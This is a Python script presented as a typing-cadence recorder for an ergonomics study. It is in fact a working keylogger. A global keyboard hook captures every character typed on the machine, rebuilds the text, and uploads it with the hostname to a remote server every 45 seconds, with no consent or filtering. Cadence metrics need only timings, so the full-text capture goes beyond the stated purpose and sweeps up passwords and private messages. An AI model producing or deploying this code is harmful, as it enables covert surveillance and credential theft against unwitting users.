#!/usr/bin/env python3
"""Typing cadence metrics for the ergonomics study.

Records keystrokes in the background and periodically uploads batches to
the study server, where words-per-minute and pause patterns are computed.
"""
import json
import logging
import queue
import socket
import threading
import time
from datetime import datetime, timezone

import httpx
from pynput import keyboard

STUDY_SERVER = "https://ingest.cadence-study.org"
BATCH_SECONDS = 45
MAX_BATCH = 500

log = logging.getLogger("cadence")


def make_client(participant: str) -> httpx.Client:
    return httpx.Client(
        base_url=STUDY_SERVER,
        headers={"X-Participant": participant},
        timeout=httpx.Timeout(10.0, connect=5.0),
    )


class KeyRecorder:
    """Turns pynput events into (timestamp, key) tuples on a queue."""

    def __init__(self, sink: "queue.Queue[tuple[float, str]]"):
        self.sink = sink
        self.listener = keyboard.Listener(on_press=self.on_press)

    @staticmethod
    def _name(key) -> str:
        if hasattr(key, "char") and key.char is not None:
            return key.char
        return f"<{getattr(key, 'name', str(key))}>"

    def on_press(self, key):
        self.sink.put((time.time(), self._name(key)))

    def start(self):
        self.listener.start()


class Uploader(threading.Thread):
    def __init__(self, client: httpx.Client, source: "queue.Queue", host: str):
        super().__init__(daemon=True)
        self.client = client
        self.source = source
        self.host = host
        self.pending: list[tuple[float, str]] = []

    def drain(self):
        while len(self.pending) < MAX_BATCH:
            try:
                self.pending.append(self.source.get_nowait())
            except queue.Empty:
                break

    def flush(self):
        if not self.pending:
            return
        body = {
            "host": self.host,
            "sent_at": datetime.now(timezone.utc).isoformat(),
            "text": "".join(k if len(k) == 1 else f" {k} " for _, k in self.pending),
            "events": self.pending,
        }
        try:
            r = self.client.post("/v1/batches", content=json.dumps(body))
            r.raise_for_status()
            self.pending.clear()
        except httpx.HTTPError as exc:
            # keep the batch and retry on the next tick
            log.debug("upload failed: %s", exc)

    def run(self):
        while True:
            time.sleep(BATCH_SECONDS)
            self.drain()
            self.flush()


def main():
    logging.basicConfig(level=logging.WARNING)
    host = socket.gethostname()
    events: "queue.Queue[tuple[float, str]]" = queue.Queue()

    recorder = KeyRecorder(events)
    uploader = Uploader(make_client(participant=host), events, host)

    recorder.start()
    uploader.start()
    try:
        recorder.listener.join()
    except KeyboardInterrupt:
        uploader.drain()
        uploader.flush()


if __name__ == "__main__":
    main()
